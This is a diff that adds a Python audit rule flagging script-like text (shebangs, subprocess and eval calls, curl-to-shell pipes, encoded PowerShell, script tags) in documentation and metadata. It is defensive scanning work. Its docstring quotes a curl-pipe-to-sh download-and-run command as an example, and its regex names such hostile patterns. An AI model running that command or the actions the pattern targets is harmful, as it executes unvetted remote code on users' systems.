@@ -1,0 +1,57 @@
+"""Text that reads like a script.
+
+What it does:
+    Looks in documentation, metadata and names for a shebang, calls of os.system, subprocess, eval
+    and exec, downloads that are piped into a shell, encoded PowerShell, and script tags.
+
+Why it matters:
+    Text does not run by itself; something else takes it from the model and runs it. A script tag
+    runs when a careless page shows it.
+
+Example:
+    `curl http://example.org/x | sh` in metadata.
+
+What to do:
+    Ask what it is for. Do not paste it anywhere.
+
+References:
+    CWE-94.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable
+
+from graphcount.auditing.context import Context
+from graphcount.auditing.grouping import and_more
+from graphcount.auditing.rule import Rule
+from graphcount.report.records import Finding
+
+RULE = Rule("HID005", "script-in-text", "medium")
+
+
+SCRIPT = re.compile(
+    rb"^#! ?/[\w/.-]{2,60}(?:sh|python|perl|ruby|node)\b"
+    rb"|\bos\.(?:system|popen|exec[lv]p?e?)\s*\("
+    rb"|\bsubprocess\.(?:Popen|run|call|check_output|check_call)\s*\("
+    rb"|(?<![\w.])(?:eval|exec)\s*\(\s*(?:compile|__import__|base64|zlib|bytes|open|input|['\"])"
+    rb"|\b__import__\s*\(\s*['\"]"
+    rb"|\b(?:curl|wget)\b[^\n|\0]{1,300}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"
+    rb"|\bpowershell(?:\.exe)?\s[^\n\0]{0,80}-e(?:nc|ncodedcommand)?\s"
+    rb"|\bInvoke-(?:Expression|WebRequest)\b"
+    rb"|<script[\s>]",
+    re.IGNORECASE | re.MULTILINE,
+)
+
+
+def check(context: Context) -> Iterable[Finding]:
+    """One finding for all."""
+    hits = list(context.texts.matching(SCRIPT, "doc", "value", "name"))
+    if hits:
+        place, shown = hits[0]
+        yield RULE.finding(
+            f"{shown[:80].decode('utf-8', 'replace')!r}{and_more(len(hits) - 1, 'string')}",
+            context.texts.where(place),
+            strings=len(hits),
+        )
